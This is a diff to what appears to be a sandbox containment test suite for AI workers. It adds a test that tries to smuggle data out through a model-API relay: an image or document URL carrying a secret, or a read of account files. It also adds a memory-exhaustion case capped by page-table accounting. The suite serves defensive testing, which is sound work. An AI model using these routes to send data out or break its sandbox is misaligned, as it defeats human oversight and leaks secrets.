@@ -756,6 +756,27 @@ ATTACKS = [
         """,
     ),
     Attack(
+        "Send data out in the URL of an image that Claude fetches, or read files of its account",
+        "the relay refuses content that a request does not carry itself",
+        """
+        import http.client, json
+        for source in ({"type": "url", "url": "https://example.com/?secret"}, {"type": "file", "file_id": "file_1"}):
+            for kind in ("image", "document"):
+                block = {"type": kind, "source": source}
+                for content in ([block], [{"type": "tool_result", "tool_use_id": "t", "content": [block]}]):
+                    messages = [{"role": "user", "content": content}]
+                    body = {"model": "claude-haiku-4-5", "max_tokens": 1, "messages": messages}
+                    with socket.socket(socket.AF_UNIX) as relay:
+                        relay.settimeout(5)
+                        relay.connect("/run/claude/relay")
+                        asking = http.client.HTTPConnection("relay")
+                        asking.sock = relay
+                        asking.request("POST", "/v1/messages", json.dumps(body))
+                        if asking.getresponse().status != 403:
+                            breach(source, content)
+        """,
+    ),
+    Attack(
         "Reach outside by links in the working directory",
         "a link is resolved inside the sandbox, and the worker follows none",
         """
@@ -892,6 +913,7 @@ MCP_FORGERIES = {
 BOMBS = {
     "Start processes without end": "`MAX_RUN_PROCESSES`; the run's namespace ends with its first process",
     "Take memory without end": "`MAX_RUN_MEMORY`; the run is the first to die",
+    "Take memory by page tables alone": "`MAX_RUN_MEMORY` counts page tables, and what is swapped out",
     "Fill the disk": "`MAX_WORKSPACE_BYTES`, and the same bound for a single file",
     "Fill the disk with files that have no name": "`MAX_WORKSPACE_BYTES` counts what open descriptors hold",
     "Make more files than a disk has places for": "`MAX_WORKSPACE_BYTES` counts 4096 bytes for each",
